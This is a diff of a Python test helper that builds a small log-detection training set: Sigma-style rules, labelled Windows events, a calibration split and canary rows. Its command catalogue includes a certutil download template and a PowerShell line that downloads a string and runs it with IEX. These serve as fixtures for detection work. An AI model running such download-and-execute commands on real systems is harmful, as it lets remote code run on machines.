@@ -1,4 +1,4 @@
-"""A folder of training data in small, all of it of the project's own writing: sample events, rules, commands."""
+"""A small folder of training data, written for this project: sample events, rules, commands."""
 
 from __future__ import annotations
 
@@ -10,9 +10,10 @@ from dataclasses import dataclass
 from pathlib import Path
 
 from loglm_bridge.lab.data.corpus import CorpusEvent
-from loglm_bridge.lab.train.calibrate import kept_for_calibration
+from loglm_bridge.lab.train.calibrate import reserved_for_calibration
 from tests.lab.tiny import TECHNIQUES, sample_events
 
+#: Six rules; each id ends with its number.
 RULES = r"""
 title: Certutil downloads
 id: 00000000-0000-4000-8000-000000000001
@@ -72,7 +73,8 @@ detection:
   condition: selection
 """
 
-LEFT_OUT = """
+#: Documents that are no usable rules.
+UNUSABLE = """
 title: No technique
 id: 00000000-0000-4000-8000-000000000007
 logsource: {product: windows, category: process_creation}
@@ -88,6 +90,7 @@ tags: [attack.t1105]
 [not, a, rule]
 """
 
+#: Entries of command catalogues: name, kind, text.
 COMMANDS = [
     ("lolbas/certutil", "command:command_prompt", "certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH_ABSOLUTE:.exe}"),
     ("atomic/T1059.001", "command:powershell", "$x = 'a'\nIEX (New-Object Net.WebClient).DownloadString('http://x')"),
@@ -97,16 +100,16 @@ COMMANDS = [
 
 
 @dataclass(frozen=True)
-class Data:
-    """Where the data and the split lie."""
+class TinyData:
+    """The data folder, the file of the split, and the held-out recordings."""
 
     folder: Path
     split: Path
     held_out: frozenset[str]
 
 
-def write_rules(path: Path, text: str = RULES + "---" + LEFT_OUT) -> Path:
-    """Write a tar archive with the rules in one YAML file, and a file that is none."""
+def write_rules(path: Path, text: str = RULES + "---" + UNUSABLE) -> Path:
+    """Write a tar archive with the rules in one YAML file, and a file that is no YAML."""
     with tarfile.open(path, "w:gz") as tar:
         for name, data in (("rules/all.yml", text.encode()), ("rules/README.md", b"[]: {")):
             info = tarfile.TarInfo(name)
@@ -116,37 +119,37 @@ def write_rules(path: Path, text: str = RULES + "---" + LEFT_OUT) -> Path:
 
 
 def write_rows(path: Path, rows: list[dict[str, object]]) -> Path:
-    """Write JSON lines, compressed."""
+    """Write compressed JSON lines."""
     with gzip.open(path, "wt", encoding="utf-8") as file:
         file.writelines(json.dumps(row) + "\n" for row in rows)
     return path
 
 
-def groups(source: str, kept: bool, count: int) -> list[str]:
-    """Names of recordings that are, or are not, kept for calibration."""
-    names = (f"r{i}" for i in range(999))
-    return [n for n in names if kept_for_calibration(CorpusEvent("", source, n, 0, "", (), (), False)) is kept][:count]
+def groups(source: str, calibration: bool, count: int) -> list[str]:
+    """Names of recordings that are, or are not, reserved for calibration."""
+    events = (CorpusEvent("", source, f"r{i}", 0, "", (), (), False) for i in range(999))
+    return [e.group for e in events if reserved_for_calibration(e) is calibration][:count]
 
 
-def write(folder: Path) -> Data:
+def write(folder: Path) -> TinyData:
     """Write recordings, machines, event-labelled tests, rules, commands, catalogue and split."""
     (folder / "attack").mkdir(parents=True)
     events = [e for e in sample_events() if e.raw.strip()]
     source = "otrf_security_datasets"
-    names = groups(source, kept=False, count=8) + groups(source, kept=True, count=2)
+    names = groups(source, calibration=False, count=8) + groups(source, calibration=True, count=2)
     rows = []
     for i, name in enumerate(names):
         chosen = [events[0], events[11], *(events[(7 * i + k) % len(events)] for k in range(12))]
         for k, event in enumerate(chosen):
             hits = [["a-rule", "high", [TECHNIQUES[i]]]] if k % 4 == 2 else []
             rows.append(row(source, name, event, k, "malicious", [TECHNIQUES[i]], hits))
-    only_held_out = {"raw": '{"eventName": "Heldoutword", "eventSource": "heldoutword.example"}', "sourcetype": ""}
-    rows.append({**rows[0], **only_held_out, "id": "held", "group": names[2], "sigma": []})
-    for k in range(12):  # a word of one training recording, often enough there to become a piece
-        told = {"raw": json.dumps({"eventName": f"Onlyheresecret{k}", "eventSource": "onlyheresecret.example"})}
-        rows.append({**rows[0], **told, "id": f"canary{k}", "sourcetype": "", "sigma": []})
+    held_out_only = {"raw": '{"eventName": "Heldoutword", "eventSource": "heldoutword.example"}', "sourcetype": ""}
+    rows.append({**rows[0], **held_out_only, "id": "held", "group": names[2], "sigma": []})
+    for k in range(12):  # a word of one training recording, frequent enough there to become a piece
+        canary = {"raw": json.dumps({"eventName": f"Onlyheresecret{k}", "eventSource": "onlyheresecret.example"})}
+        rows.append({**rows[0], **canary, "id": f"canary{k}", "sourcetype": "", "sigma": []})
     write_rows(folder / f"{source}.jsonl.gz", rows)
-    machines = groups("evtx_baseline", kept=False, count=3) + groups("evtx_baseline", kept=True, count=2)
+    machines = groups("evtx_baseline", calibration=False, count=3) + groups("evtx_baseline", calibration=True, count=2)
     ordinary = [row("evtx_baseline", n, e, k, "benign", [], []) for n in machines for k, e in enumerate(events[:30])]
     write_rows(folder / "evtx_baseline.jsonl.gz", ordinary)
     commands = [
@@ -159,7 +162,7 @@ def write(folder: Path) -> Data:
     (folder / "attack" / "enterprise.json.gz").write_bytes(gzip.compress(json.dumps(catalogue).encode()))
     split = folder.parent / "split.json"
     split.write_text(json.dumps({source: [names[2], names[5]]}))
-    return Data(folder, split, frozenset((names[2], names[5])))
+    return TinyData(folder, split, frozenset((names[2], names[5])))
 
 
 def row(source, group, event, number, label, techniques, hits) -> dict[str, object]:
